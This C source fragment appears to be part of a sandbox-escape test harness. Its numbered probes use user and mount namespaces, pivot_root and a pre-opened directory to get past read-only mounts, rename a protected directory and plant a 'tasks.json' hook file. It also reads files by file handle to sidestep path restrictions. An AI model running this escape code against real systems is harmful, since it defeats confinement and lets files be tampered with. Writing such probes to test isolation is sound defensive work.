// FS-01: with a user namespace of one's own the whole tree, and every read-only mount with it, is put aside. A directory opened
// before leads back to the host's files, and a mount point that is not in the current namespace can be renamed away.
static int strip(int argc, char **argv)
{
    int git = open(argv[2], O_PATH | O_DIRECTORY);
    if (git < 0)
        return report("open", -1);
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return report("unshare", -1);
    // uid 0 without CAP_SETFCAP may not map itself; the attack works without a map too, since the files belong to the same uid.
    char map[64];
    write_text("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    write_text("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", gid);
    write_text("/proc/self/gid_map", map);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        return report("private", -1);
    if (mount("none", "/usr", "tmpfs", 0, NULL) < 0)
        return report("tmpfs", -1);
    if (chdir("/usr") < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
        return report("pivot_root", -1);
    if (umount2(".", MNT_DETACH) < 0)
        return report("umount2", -1);
    if (renameat(git, argv[3], git, "aside") < 0)
        return report("renameat", -1);
    if (mkdirat(git, argv[3], 0755) < 0)
        return report("mkdirat", -1);
    char name[256];
    snprintf(name, sizeof name, "%s/tasks.json", argv[3]);
    int hook = openat(git, name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (hook < 0)
        return report("create", -1);
    return report("stripped", write(hook, "PWN\n", 4));
}

// A raw device of a capability or of the file system by handle (FS-24). Prints the handle, or opens one that was printed.
static int handle(int argc, char **argv)
{
    struct { struct file_handle head; unsigned char bytes[128]; } h = {.head.handle_bytes = 128};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, argv[2], &h.head, &mount_id, 0) < 0)
        return report("name_to_handle_at", -1);
    printf("%u %d ", h.head.handle_bytes, h.head.handle_type);
    for (unsigned i = 0; i < h.head.handle_bytes; i++)
        printf("%02x", h.head.f_handle[i]);
    return say("");
}

static int by_handle(int argc, char **argv)
{
    struct { struct file_handle head; unsigned char bytes[128]; } h = {.head.handle_bytes = atoi(argv[3]), .head.handle_type = atoi(argv[4])};
    for (unsigned i = 0; i < h.head.handle_bytes; i++)
        sscanf(argv[5] + 2 * i, "%2hhx", &h.head.f_handle[i]);
    int mount = open(argv[2], O_RDONLY | O_DIRECTORY);
    int file = open_by_handle_at(mount, &h.head, O_RDONLY);
    if (file < 0)
        return report("open_by_handle_at", -1);
    char text[256] = {0};
    ssize_t n = read(file, text, sizeof text - 1);
    printf("read %s\n", n > 0 ? text : "nothing");
    return 0;
}
